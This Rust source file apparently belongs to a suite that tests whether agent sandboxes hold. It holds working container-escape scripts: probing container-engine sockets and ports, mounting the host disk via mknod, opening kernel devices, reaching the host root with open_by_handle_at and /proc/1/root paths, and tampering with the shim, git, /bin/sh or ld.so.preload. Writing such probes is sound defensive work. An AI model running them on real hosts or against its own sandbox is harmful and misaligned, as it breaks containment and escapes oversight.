//! Attacks on who runs the sandboxes, and on the host's files, disks and devices.

use crate::ground::{Control, Inside, Sign};

/// Who runs the sandboxes.
pub const ENGINE: &[Inside] = &[Inside {
    id: "host-engine-socket",
    tries: "Ask the container engine for a container with the host's disk, by its socket or its port.",
    script: r#"
for socket in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do
  curl -s -m 2 --unix-socket $socket http://engine/version && echo got $socket
done
for host in 127.0.0.1 $GATEWAY $HOST; do
  for port in 2375 2376; do curl -s -m 2 --noproxy '*' http://$host:$port/version | grep ApiVersion && echo got $host; done
done
echo tried: $(curl --version | head -n 1)"#,
    // A container that has the engine's socket has the host; the suite starts none.
    control: Control::None,
    ..Inside::GOT
}];

/// Its files, disks and devices, and the kernel's own.
pub const FILES: &[Inside] = &[
    Inside {
        id: "host-mount-tmpfs",
        tries: "Mount a file system of its own, the first step of most ways out.",
        script: r#"
mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && echo got a mount && umount /tmp/m
mount --bind / /tmp/m && echo got a bind mount && umount /tmp/m
echo tried: $(grep -c . /proc/self/mounts) mounts"#,
        control: Control::Privileged,
        ..Inside::GOT
    },
    Inside {
        id: "host-mount-disk",
        tries: "Mount the host's disk and read a file of the host.",
        script: r#"
mkdir -p /tmp/m
while read -r major minor _ name; do
  [ -n "$name" ] || continue
  node=/dev/$name
  [ -b $node ] || { node=/tmp/node-$name; mknod $node b $major $minor; }
  mount $node /tmp/m && { cat "/tmp/m$SECRET_FILE"; umount /tmp/m; }
done < <(grep '[0-9]' /proc/partitions | grep -v loop)
echo tried: $(grep -c '[0-9]' /proc/partitions) disks"#,
        // A machine that is a guest itself may be kept from its own disk; `host-file-handles` reads it with a control.
        control: Control::None,
        sign: Sign::Reads,
        ..Inside::OUT
    },
    Inside {
        id: "host-disk-device",
        tries: "Make a node for the host's disk and read its first bytes.",
        script: r#"
while read -r major minor _ name; do
  for folder in /work /tmp /dev /home/agent; do
    mknod $folder/node b $major $minor && [ "$(head -c 512 $folder/node | wc -c)" = 512 ] && echo got $name
    rm -f $folder/node
  done
done < <(grep '[0-9]' /proc/partitions | grep -v loop)
echo tried: $(grep -c '[0-9]' /proc/partitions) disks"#,
        // As with `host-mount-disk`.
        control: Control::None,
        ..Inside::GOT
    },
    Inside {
        id: "host-memory-device",
        tries: "Make nodes for the memory, the kernel's log, the processor's virtual machines and loop devices, and open them.",
        script: r#"
n=0
while read -r name major minor; do
  n=$((n + 1))
  node=/dev/$name; [ -e $node ] || { node=/work/$name; mknod $node c $major $minor; }
  python3 -c 'import os, sys; os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK); print("got", sys.argv[1])' $node 2>/dev/null
  rm -f /work/$name
done <<'NODES'
mem 1 1
kmsg 1 11
kvm 10 232
fuse 10 229
loop-control 10 237
vhost-net 10 238
NODES
echo tried: $n devices"#,
        control: Control::Privileged,
        ..Inside::GOT
    },
    Inside {
        id: "host-file-handles",
        tries: "Open the root of the host's disk by its inode's number, through a file that the engine mounts.",
        script: python!(
            r#"
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
seen = []
for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/hostname", "/work", "/home/agent", "/run/deckhand"):
    for kind, inode in ((1, 2), (1, 128), (1, 256)):
        try:
            mount = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, kind, inode, 0))
        root = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
        if root < 0:
            seen.append(ctypes.get_errno())
            continue
        try:
            print(os.read(os.open(os.environ["SECRET_FILE"][1:], os.O_RDONLY, dir_fd=root), 100))
        except OSError as error:
            seen.append(error)
print("tried:", set(map(str, seen)))"#
        ),
        control: Control::Privileged,
        sign: Sign::Reads,
        ..Inside::OUT
    },
    Inside {
        id: "host-paths",
        tries: "Reach a file of the host by its path: through the mounted folders, links, and other processes' roots.",
        script: r#"
ln -sf / /work/root; ln -sf "$SECRET_FILE" /work/secret; ln -sf ../../../../../.. /work/up
for start in "" /run/deckhand/.. /run/deckhand/../.. /work/root /work/up /proc/1/root /proc/self/root /proc/1/cwd /proc/$PPID/root; do
  cat "$start$SECRET_FILE"
done
cat /work/secret
for folder in $(grep -o '\(upperdir\|lowerdir\|workdir\)=[^,: ]*' /proc/self/mountinfo | cut -d= -f2); do
  ls "$folder" && cat "$folder/../../../../../..$SECRET_FILE"
done
rm -f /work/root /work/secret /work/up
echo tried: $(grep -c . /proc/self/mountinfo) mounts"#,
        // No container at all has the path, not even one with all privileges.
        control: Control::None,
        sign: Sign::Reads,
        ..Inside::OUT
    },
    Inside {
        id: "host-socket-folder",
        tries: "Change the folder of sockets that the host lends: put files there, take the socket away, put a link in its place.",
        script: r#"
cd /run/deckhand && ls -la
touch x && echo got a file
ln -s /etc/passwd link && echo got a link
mv egress.sock other.sock && echo got the name
rm -f egress.sock; [ -e egress.sock ] || echo got it removed
chmod 777 . && echo got its mode
echo tried: $(id)"#,
        // The bare containers have the same folder, and an attempt that worked would cut them off.
        control: Control::None,
        ..Inside::GOT
    },
    Inside {
        id: "host-root-files",
        tries: "Change the programs that the next command runs: the shim, git, the loader's list.",
        script: r#"
for file in /opt/deckhand/shim /usr/bin/git /bin/sh; do
  ( exec 3<>$file ) && echo got $file
  cp /usr/bin/true $file.new && { echo got beside $file; rm -f $file.new; }
done
touch /etc/ld.so.preload && { echo got the loader; rm -f /etc/ld.so.preload; }
mount -o remount,rw / && echo got the root again
echo tried: $(grep ' / ' /proc/self/mounts | cut -c 1-40)"#,
        control: Control::BareRoot,
        ..Inside::GOT
    },
];
